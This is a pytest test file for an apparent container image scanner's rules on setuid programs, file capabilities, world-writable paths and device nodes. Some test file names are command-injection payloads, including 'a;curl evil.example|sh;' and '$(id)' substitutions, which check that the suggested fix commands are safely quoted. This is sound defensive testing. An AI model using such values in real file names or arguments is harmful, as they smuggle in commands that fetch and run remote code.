"""Permissions, capabilities and devices: what is told, how much it matters, and what is as it should be."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imgscope.layer.index import EntryType, LayerEntry
from imgscope.report import Finding, Severity
from imgscope.rules.capable_program import _capabilities
from tests.rules.examples import NET_RAW, dpkg
from tests.support.images import BuiltLayer, device, directory, file, hard_link, layer, whiteout
from tests.support.memory import inspect

RUN = "RUN /bin/sh -c make install # buildkit"
SYS_ADMIN = "\x01\0\0\x02\0\0\x20" + 13 * "\0"


def told(rule_id: str, *layers: BuiltLayer) -> list[Finding]:
    return [found for found in inspect(*layers).report.findings if found.rule_id == rule_id]


def severities(rule_id: str, *layers: BuiltLayer) -> list[tuple[Severity, tuple[str, ...]]]:
    return [(found.severity, found.paths) for found in told(rule_id, *layers)]


def test_a_setuid_program_of_nobody_is_told_with_its_layer_and_what_to_do() -> None:
    (found,) = told(
        "setuid-program", layer(file("bin/x")), layer(file("usr/local/bin/tool", "x", mode=0o4755), created_by=RUN)
    )
    assert (found.severity, found.layer, found.instruction) == (Severity.MEDIUM, 1, "RUN make install")
    assert found.message == "/usr/local/bin/tool runs as root whoever starts it, and no package brought it so"
    assert found.fix == "in the instruction that brings it: chmod ug-s /usr/local/bin/tool"


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("a b", "chmod ug-s '/bin/a b'"),
        ("a;curl evil.example|sh;", "chmod ug-s '/bin/a;curl evil.example|sh;'"),
        ("a'$(id)", "chmod ug-s '/bin/a'\"'\"'$(id)'"),
        ("a\nid", "take the bits away with chmod ug-s"),
    ],
)
def test_a_name_is_one_word_of_the_command_that_is_proposed_or_not_in_it(name: str, change: str) -> None:
    (found,) = told("setuid-program", layer(file(f"bin/{name}", "x", mode=0o4755)))
    assert found.fix == f"in the instruction that brings it: {change}"


def test_so_it_is_in_the_commands_of_the_other_rules() -> None:
    evil = "x y$(id)"
    (writable,) = told("writable-by-all", layer(file(f"opt/{evil}", "x", mode=0o666)))
    assert str(writable.fix).startswith(f"in the instruction that makes it so: chmod o-w '/opt/{evil}', and")
    (writable,) = told("writable-by-all", layer(directory("opt/a\x1b", mode=0o777)))
    assert "take the permission away with chmod -R o-w, and" in str(writable.fix)
    (disk,) = told("device-in-layer", layer(device(evil, 8, 0, block=True)))
    assert str(disk.fix).startswith(f"rm '/{evil}' in the instruction that makes it;")
    (disk,) = told("device-in-layer", layer(device("a\n", 8, 0, block=True)))
    assert str(disk.fix).startswith("remove it in the instruction that makes it;")
    attributes = {"security.capability": NET_RAW}
    (capable,) = told("capable-program", layer(file(f"bin/{evil}", "x", mode=0o755, xattrs=attributes)))
    assert f"(setcap -r '/bin/{evil}')" in str(capable.fix)
    (capable,) = told("capable-program", layer(file("bin/\n", "x", mode=0o755, xattrs=attributes)))
    assert str(capable.fix).startswith("leave out setcap and grant")


def test_setgid_and_setuid_of_others_than_root_matter_less() -> None:
    others = layer(file("bin/a", "x", mode=0o2755), file("bin/b", "x", mode=0o4755, uid=33))
    assert severities("setuid-program", others) == [(Severity.LOW, ("bin/a", "bin/b"))]


@pytest.mark.parametrize("name", ["find", "python3.11", "bash", "cp"])
def test_a_setuid_program_that_does_anything_is_told_even_if_a_package_owns_it(name: str) -> None:
    owned = layer(*dpkg("tools", paths=[f"usr/bin/{name}"]), file(f"usr/bin/{name}", "x", mode=0o4755))
    (found,) = told("setuid-program", owned)
    assert (found.severity, found.paths) == (Severity.HIGH, (f"usr/bin/{name}",))


def test_a_packages_program_made_setuid_later_is_told() -> None:
    below = layer(*dpkg("tools", paths=["bin/a", "bin/b"]), file("bin/a", "x"), file("bin/b", "y", mode=0o4755))
    changed = layer(file("bin/a", "x", mode=0o4755), file("bin/b", "y", mode=0o4711))
    assert severities("setuid-program", below, changed) == [(Severity.MEDIUM, ("bin/a",))]


def test_without_a_package_database_the_usual_programs_are_known_by_name() -> None:
    root = layer(
        file("bin/su", "x", mode=0o4755), file("bin/bbsuid", "y", mode=0o4111), file("bin/z", "z", mode=0o4755)
    )
    assert severities("setuid-program", root) == [(Severity.MEDIUM, ("bin/z",))]


def test_a_setuid_program_that_cannot_be_started_is_not_told() -> None:
    layers = (layer(file("bin/a", "x", mode=0o4755), file("bin/b", "x", mode=0o4644)), layer(whiteout("bin/a")))
    assert told("setuid-program", *layers) == []


def test_many_programs_of_one_layer_are_one_finding_and_hard_links_are_one_program() -> None:
    many = layer(*(file(f"bin/{n}", str(n), mode=0o4755) for n in range(120)), hard_link("bin/x", "bin/0"))
    (found,) = told("setuid-program", many)
    assert found.message.startswith("120 programs such as /bin/0 ")
    assert len(found.paths) == 120


def test_a_capability_that_is_as_good_as_root_matters_and_may_keep_the_program_from_starting() -> None:
    (found,) = told(
        "capable-program", layer(file("bin/tool", "x", mode=0o755, xattrs={"security.capability": SYS_ADMIN}))
    )
    assert found.severity is Severity.MEDIUM
    assert found.message == (
        "/bin/tool has cap_sys_admin whoever starts it, and no package brought it so; "
        "cap_sys_admin is as good as root; it does not start where a container is not granted cap_sys_admin"
    )


def test_a_capability_of_little_power_is_information() -> None:
    (found,) = told("capable-program", layer(file("bin/x", "x", mode=0o755, xattrs={"security.capability": NET_RAW})))
    assert (found.severity, found.message) == (
        Severity.INFO,
        "/bin/x has cap_net_raw whoever starts it, and no package brought it so",
    )


def test_a_packages_program_given_capabilities_later_is_told() -> None:
    below = layer(*dpkg("node", paths=["bin/node"]), file("bin/node", "x", mode=0o755))
    above = layer(file("bin/node", "x", mode=0o755, xattrs={"security.capability": NET_RAW}))
    assert [found.layer for found in told("capable-program", below, above)] == [1]


@given(st.binary(max_size=40))
def test_whatever_stands_in_the_attribute_is_read_without_a_word(value: bytes) -> None:
    entry = LayerEntry(path="x", type=EntryType.FILE, mode=0o755, xattrs={"security.capability": value})
    names = _capabilities(entry)
    assert len(names) <= 64
    assert names == [] or len(value) >= 12


def test_of_what_is_writable_together_the_topmost_path_is_listed() -> None:
    (found,) = told(
        "writable-by-all",
        layer(directory("usr", mode=0o755), file("usr/bin/x", "x", mode=0o755)),
        layer(
            directory("usr/share/app", mode=0o777),
            directory("usr/share/app/lib", mode=0o777),
            file("usr/share/app/lib/a", "x", mode=0o666),
            created_by="RUN /bin/sh -c chmod -R 777 /usr/share/app # buildkit",
        ),
    )
    assert (found.severity, found.layer, found.paths) == (Severity.MEDIUM, 1, ("usr/share/app",))
    assert found.message == "everybody may write 3 paths such as /usr/share/app"
    assert found.fix == "in the instruction that makes it so: chmod -R o-w /usr/share/app, and chown it to its user"


def test_what_copy_makes_writable_is_answered_with_copy() -> None:
    (found,) = told("writable-by-all", layer(file("app/main.py", "x", mode=0o666), created_by="COPY . /app # buildkit"))
    assert (found.severity, found.fix) == (Severity.LOW, "COPY --chmod=755, or --chown=USER for whom it is meant")


def test_a_writable_root_directory_is_told_and_what_a_later_layer_corrects_is_not() -> None:
    assert severities("writable-by-all", layer(directory("", mode=0o777))) == [(Severity.MEDIUM, ("",))]
    layers = (layer(directory("opt/x", mode=0o777)), layer(directory("opt/x", mode=0o775)))
    assert told("writable-by-all", *layers) == []


def test_devices_matter_by_what_they_reach_and_where_they_are() -> None:
    nodes = layer(
        device("data/disk", 8, 0, block=True),
        device("dev/loop0", 7, 0, block=True),
        device("dev/zero", 1, 5),
        device("mem", 1, 1),
        device("srv/fuse", 10, 229),
    )
    assert severities("device-in-layer", nodes) == [
        (Severity.MEDIUM, ("data/disk", "mem")),
        (Severity.LOW, ("srv/fuse",)),
        (Severity.INFO, ("dev/loop0",)),
    ]


def test_an_overlay_file_systems_mark_of_deletion_is_called_so() -> None:
    (found,) = told("device-in-layer", layer(file("etc/x")), layer(device("etc/x", 0, 0)))
    assert found.message == (
        "/etc/x (character device 0/0): deleted for engines that use overlayfs, a device for others"
    )
